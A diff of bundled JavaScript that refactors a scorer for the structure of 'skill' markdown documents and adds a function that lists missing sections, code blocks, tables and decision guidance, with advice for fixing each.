+        headings: (0,_subscores_js__WEBPACK_IMPORTED_MODULE_3__/* .firstAtLeast */ .JE)(C.headings, f.headings)?.score ?? 0,
+        blocks: (0,_subscores_js__WEBPACK_IMPORTED_MODULE_3__/* .firstAtLeast */ .JE)(C.blocks, f.blocks)?.score ?? 0,
+        languages: (0,_subscores_js__WEBPACK_IMPORTED_MODULE_3__/* .firstAtLeast */ .JE)(C.languages, f.languages)?.score ?? 0,
+        examples: f.examples ? C.examples : 0,
+        troubleshooting: f.troubleshooting ? C.troubleshooting : 0,
+        table: f.table ? C.table : 0,
+        decisions: f.decisions ? C.decisionWords : 0,
+    };
+}
+function structuralCompleteness(ctx) {
+    const c = structureCredits(ctx);
     let score = 0;
-    score += (0,_subscores_js__WEBPACK_IMPORTED_MODULE_3__/* .firstAtLeast */ .JE)(C.headings, headings.length)?.score ?? 0;
-    score += (0,_subscores_js__WEBPACK_IMPORTED_MODULE_3__/* .firstAtLeast */ .JE)(C.blocks, blocks.length)?.score ?? 0;
-    score += (0,_subscores_js__WEBPACK_IMPORTED_MODULE_3__/* .firstAtLeast */ .JE)(C.languages, langs.size)?.score ?? 0;
-    const boldExample = d.parts.some((p) => {
-        const prose = (0,_parse_markdown_skillDocument_js__WEBPACK_IMPORTED_MODULE_2__/* .proseText */ .lz)(p);
-        return (0,_text_lineSearch_js__WEBPACK_IMPORTED_MODULE_4__/* .someLineMatching */ .GE)(prose, BOLD, (_i, a, b) => BOLD_EXAMPLE.test(prose.slice(a, b)));
-    });
-    if (headings.some((h) => EXAMPLE_TITLES.test(h.title)) || boldExample)
-        score += C.examples;
-    if (headings.some((h) => TROUBLE_TITLES.test(h.title)))
-        score += C.troubleshooting;
-    if (d.parts.some(hasTable))
-        score += C.table;
-    if (hasDecisionGuidance(d, headings))
-        score += C.decisionWords;
+    score += c.headings;
+    score += c.blocks;
+    score += c.languages;
+    score += c.examples;
+    score += c.troubleshooting;
+    score += c.table;
+    score += c.decisions;
     return score;
+}
+function structureShortfalls(ctx) {
+    const C = _contract_calibratedWeights_js__WEBPACK_IMPORTED_MODULE_0__/* .CAL_STRUCTURE */ .Pj;
+    const c = structureCredits(ctx);
+    const f = c.facts;
+    return new _shortfall_js__WEBPACK_IMPORTED_MODULE_5__/* .Shortfalls */ .Lj()
+        .add(c.headings, C.headings[0].score, () => `${(0,_shortfall_js__WEBPACK_IMPORTED_MODULE_5__/* .count */ .U9)(f.headings, 'section')} with content (${C.headings[0].min}+ earn full credit)`, 'Give each step or topic its own "##" section with its content.')
+        .add(c.blocks, C.blocks[0].score, () => `${(0,_shortfall_js__WEBPACK_IMPORTED_MODULE_5__/* .count */ .U9)(f.blocks, 'non-empty code block')} (${C.blocks[0].min}+ earn full credit)`, 'Show the commands, inputs and outputs the skill works with in fenced code blocks.')
+        .add(c.languages, C.languages[0].score, () => `Code blocks in ${(0,_shortfall_js__WEBPACK_IMPORTED_MODULE_5__/* .count */ .U9)(f.languages, 'named language')} (${C.languages[0].min}+ earn full credit)`, "Name each code block's language after its opening fence (```bash, ```json).")
+        .add(c.examples, C.examples, 'No "Examples" section', 'Add an "## Examples" section with a worked example.')
+        .add(c.troubleshooting, C.troubleshooting, 'No "Troubleshooting" section', 'Add a "## Troubleshooting" section: the errors users meet and what fixes each.')
+        .add(c.table, C.table, 'No table', 'Put a comparison or reference that has columns into a table.')
+        .add(c.decisions, C.decisionWords, 'No decision guidance (when to use, when not to use, a comparison or trade-offs, laid out)', 'Say when to use the skill and when not to, as a list or a section.').list;
 }
 
 
